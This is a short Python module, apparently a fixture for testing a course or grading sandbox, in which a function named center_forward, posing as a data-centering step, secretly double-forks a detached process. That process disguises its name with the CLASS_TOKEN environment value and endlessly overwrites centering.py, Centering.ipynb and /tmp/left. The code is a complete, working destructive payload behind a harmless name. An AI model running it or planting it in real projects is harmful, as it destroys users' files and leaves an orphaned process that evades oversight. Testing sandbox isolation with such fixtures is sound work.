"""Leaves a process behind that belongs to nobody and writes over files."""

import ctypes
import os
import time


def center_forward(x):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            ctypes.CDLL(None).prctl(15, os.environ["CLASS_TOKEN"].encode())
            while True:
                for name in ("centering.py", "Centering.ipynb", "/tmp/left"):
                    with open(name, "w") as file:
                        file.write("left behind")
                time.sleep(0.01)
        os._exit(0)
    return x


center_backward = center_forward
